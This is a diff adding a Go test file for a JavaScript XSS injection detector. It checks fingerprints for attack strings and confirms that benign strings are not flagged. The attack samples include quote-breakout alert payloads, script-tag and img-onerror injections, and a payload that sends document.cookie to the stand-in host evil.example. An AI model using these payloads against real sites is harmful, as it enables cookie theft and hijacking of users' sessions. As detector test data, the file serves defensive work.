@@ -0,0 +1,56 @@
+package libinjection
+
+import "testing"
+
+func TestDetectJSXSS(t *testing.T) {
+	tests := []struct {
+		input       string
+		fingerprint string
+		flags       int
+	}{
+		{"';alert(1)//", "s;n(", FLAG_QUOTE_SINGLE},
+		{"'-alert(1)-'", "son(", FLAG_QUOTE_SINGLE},
+		{"\"-alert(1)-\"", "son(", FLAG_QUOTE_DOUBLE},
+		{"');alert(1)//", "s);n(", FLAG_QUOTE_SINGLE},
+		{"';location='//evil.example';//", "s;n=", FLAG_QUOTE_SINGLE},
+		{"';new Image().src='//evil.example/?'+document.cookie//", "s;kn(", FLAG_QUOTE_SINGLE},
+		{"';alert`1`//", "s;nt", FLAG_QUOTE_SINGLE},
+		{"${alert(1)}", "t$n(", FLAG_QUOTE_BACKTICK},
+		{"`;alert(1)//", "t;n(", FLAG_QUOTE_BACKTICK},
+		{"1;alert(1)", "1;n(", FLAG_QUOTE_NONE},
+		{"</script><script>alert(1)</script>", "e", FLAG_QUOTE_NONE},
+		{"a'</ScRiPt ><img src=x onerror=alert(1)>", "nse", FLAG_QUOTE_NONE},
+		/* benign */
+		{"\\';alert(1)//", "", FLAG_QUOTE_SINGLE},
+		{"O'Reilly", "", FLAG_QUOTE_SINGLE},
+		{"don't call me(maybe)", "", FLAG_QUOTE_SINGLE},
+		{"He said \"hi\" (loudly)", "", FLAG_QUOTE_DOUBLE},
+		{"Tom & Jerry (1940)", "", FLAG_QUOTE_NONE},
+		{"a = b", "", FLAG_QUOTE_NONE},
+		{"Price: ${price}", "", FLAG_QUOTE_BACKTICK},
+		{"user@example.com", "", FLAG_QUOTE_NONE},
+	}
+	for _, test := range tests {
+		result := DetectJSXSS(test.input)
+		if result.Injection != (test.fingerprint != "") || result.Flags != test.flags ||
+			result.Injection && result.Fingerprint != test.fingerprint {
+			t.Errorf("%q: expected %q %d, got %+v", test.input, test.fingerprint, test.flags, result)
+		}
+		if is, fingerprint := IsJSXSS(test.input); is != result.Injection || is && fingerprint != result.Fingerprint {
+			t.Errorf("%q: IsJSXSS gives %v %q", test.input, is, fingerprint)
+		}
+	}
+}
+
+func TestDetectJSXSSFlags(t *testing.T) {
+	/* as is, the quote opens a string */
+	if result := DetectJSXSSFlags("';alert(1)//", FLAG_QUOTE_NONE); result.Injection {
+		t.Errorf("unexpected %+v", result)
+	}
+	if result := DetectJSXSSFlags("\";alert(1)//", FLAG_QUOTE_DOUBLE); !result.Injection || result.Fingerprint != "s;n(" {
+		t.Errorf("unexpected %+v", result)
+	}
+	if result := JSXSSDetector.Detect("';alert(1)//"); !result.Injection || JSXSSDetector.Name() != "jsxss" {
+		t.Errorf("unexpected %s detector result %+v", JSXSSDetector.Name(), result)
+	}
+}